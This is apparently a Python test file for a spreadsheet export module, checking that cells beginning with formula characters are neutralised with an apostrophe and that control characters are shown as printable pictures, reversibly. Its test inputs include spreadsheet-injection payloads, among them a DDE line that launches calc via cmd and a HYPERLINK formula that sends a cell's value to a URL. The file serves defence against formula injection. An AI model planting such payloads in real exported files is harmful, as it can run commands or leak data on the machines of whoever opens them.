"""No cell begins a formula, and what was done to a text can be undone."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planledger.export.neutral import begins_formula, from_neutral, from_printable, neutral, printable

NASTY = st.text(
    st.sampled_from("=+-@\t\r\n \u00a0\ufeff\u200b\x00\x1b\x7f'\"＝＋－＠﹦␀␛␦␡,;0159.%£cmd|!Aé"), max_size=12
)
TEXTS = NASTY | st.text(max_size=30)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.org?x="&A1,"see")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1",
        "\ttabbed",
        "\rreturn",
        "\nline",
        " =1+1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b@x",
        "\x00=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "﹦1",
        "-",
        "- a point in a list",
        "+44 1632 960001",
        "-5%+A1",
    ],
)
def test_what_begins_a_formula_gets_an_apostrophe(text: str) -> None:
    assert begins_formula(text)
    assert from_neutral(neutral(text)) == text
    assert neutral(text)[0] in "'␀␍"


@pytest.mark.parametrize("text", ["-5%", "+3", "-1,250.50", "-£3,000", "- 5 %", "Plant trees", "a=b", "3 + 4", "", "é"])
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


def test_an_apostrophe_of_the_text_is_told_from_ours() -> None:
    assert neutral("'tis so") == "''tis so"
    assert from_neutral("''tis so") == "'tis so"


def test_control_characters_are_shown_by_their_pictures() -> None:
    assert printable("a\x00b\x1b\r\x7f\tc\nd") == "a␀b␛␍␡\tc\nd"
    assert printable("the sign ␀") == "the sign ␦␀"


@given(TEXTS)
def test_what_was_done_can_be_undone(text: str) -> None:
    assert from_neutral(neutral(text)) == text
    assert from_printable(printable(text)) == text


@given(TEXTS)
def test_no_cell_can_begin_a_formula(text: str) -> None:
    cell = neutral(text)
    seen = "".join(char for char in cell if not char.isspace() and unicodedata.category(char) != "Cf")
    if unicodedata.normalize("NFKC", seen[:1]) in {*"=+-@"}:
        assert set(cell[1:]) <= set("0123456789., £%")
    assert cell[:1] not in ("\t", "\n", "\r")
    assert not any(unicodedata.category(char) == "Cc" and char < "\x80" for char in cell.translate({9: "", 10: ""}))
